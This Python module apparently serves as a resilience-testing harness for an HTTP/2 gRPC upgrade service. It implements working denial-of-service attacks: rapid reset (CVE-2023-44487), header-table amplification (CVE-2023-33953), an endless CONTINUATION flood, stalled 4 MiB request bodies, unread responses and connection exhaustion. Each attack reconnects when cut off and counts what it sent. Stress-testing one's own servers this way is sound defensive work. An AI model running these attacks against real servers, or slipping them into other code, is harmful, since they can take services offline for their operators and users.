"""What a client may do to a server that speaks HTTP/2, and what it costs.

Each attack goes on while `more()` says so, connects again when it is cut off, and
returns how often it did what it does.
"""

from __future__ import annotations

import contextlib
import socket
from collections.abc import Callable, Iterator

from http2 import (CANCEL, FRAME_BYTES, ONLY_TABLE_ENTRY, Connect, Connection, Flag,
                   Kind, field, frame, message, request_fields)

More = Callable[[], bool]
Attack = Callable[[Connect, More], int]

PLAN = '/astro.upgrade.v1.UpgradeService/PlanUpgrade'
_BATCH = 20  # calls in one write


def _connections(connect: Connect, more: More) -> Iterator[Connection]:
    """One connection after the other, each until the peer has had enough."""
    while more():
        with contextlib.suppress(OSError), Connection(connect) as connection:
            yield connection


def rapid_reset(plan: bytes) -> Attack:
    """Whole requests, each cancelled in the same write (CVE-2023-44487)."""
    fields, body = request_fields(PLAN), message(plan)

    def call(stream: int) -> bytes:
        return (frame(Kind.HEADERS, Flag.END_HEADERS, stream, fields)
                + frame(Kind.DATA, Flag.END_STREAM, stream, body)
                + frame(Kind.RST_STREAM, Flag.NONE, stream, CANCEL))

    def attack(connect: Connect, more: More) -> int:
        sent = 0
        for connection in _connections(connect, more):
            with contextlib.suppress(OSError):
                while more():
                    connection.send(b''.join(
                        call(connection.next_stream()) for _ in range(_BATCH)))
                    sent += _BATCH
        return sent

    return attack


def table_growth(connect: Connect, more: More) -> int:
    """Blocks of headers that name a large entry of the table thousands of times:
    a byte on the wire, three kilobytes in the server (CVE-2023-33953)."""
    entry = field(b'x-large', b'v' * 3000, indexed=True)
    many = ONLY_TABLE_ENTRY * 4000
    sent = 0
    for connection in _connections(connect, more):
        with contextlib.suppress(OSError):
            first = entry
            while more():
                connection.send(frame(
                    Kind.HEADERS, Flag.END_HEADERS, connection.next_stream(),
                    request_fields(PLAN) + first + many))
                first = b''
                sent += 1
    return sent


def continuation_flood(connect: Connect, more: More) -> int:
    """A block of headers that never ends."""
    one = field(b'x-more', b'v' * 100)
    part = one * (FRAME_BYTES // len(one))
    sent = 0
    for connection in _connections(connect, more):
        with contextlib.suppress(OSError):
            stream = connection.next_stream()
            connection.send(frame(Kind.HEADERS, Flag.NONE, stream, request_fields(PLAN)))
            while more():
                connection.send(frame(Kind.CONTINUATION, Flag.NONE, stream, part))
                sent += 1
    return sent


def half_sent_bodies(connect: Connect, more: More) -> int:
    """Many requests of 4 MiB that lack their last byte, kept open to the end.

    Returns how many mebibytes the server has taken.
    """
    length, streams, sent = 4 << 20, 16, 0
    fields = request_fields(PLAN)
    with contextlib.ExitStack() as stack:
        open_calls: list[tuple[Connection, int, int]] = []
        for _ in range(16):
            with contextlib.suppress(OSError):
                connection = stack.enter_context(Connection(connect))
                for _ in range(streams):
                    stream = connection.next_stream()
                    connection.send(frame(
                        Kind.HEADERS, Flag.END_HEADERS, stream, fields))
                    connection.send_body(stream, message(b'', length))
                    open_calls.append((connection, stream, length))
        while more():
            still = []
            for connection, stream, left in open_calls:
                with contextlib.suppress(OSError):
                    taken = connection.send_body(stream, b'x' * min(left - 1, FRAME_BYTES))
                    sent += taken
                    still.append((connection, stream, left - taken))
            open_calls = still
    return sent >> 20


def unread_answers(plan: bytes) -> Attack:
    """Whole calls on streams that take no byte of an answer, all kept open."""
    fields, body = request_fields(PLAN), message(plan)

    def attack(connect: Connect, more: More) -> int:
        sent = 0
        with contextlib.ExitStack() as stack:
            while more():
                with contextlib.suppress(OSError):
                    connection = stack.enter_context(
                        Connection(connect, reads_answers=False))
                    for _ in range(100):
                        stream = connection.next_stream()
                        connection.send(
                            frame(Kind.HEADERS, Flag.END_HEADERS, stream, fields)
                            + frame(Kind.DATA, Flag.END_STREAM, stream, body))
                        sent += 1
        return sent

    return attack


def open_many(connect: Connect, count: int, stack: contextlib.ExitStack) -> list[socket.socket]:
    """As many connections as can be had, up to `count`, closed with the stack."""
    opened = []
    for _ in range(count):
        with contextlib.suppress(OSError):
            opened.append(stack.enter_context(connect()))
    return opened
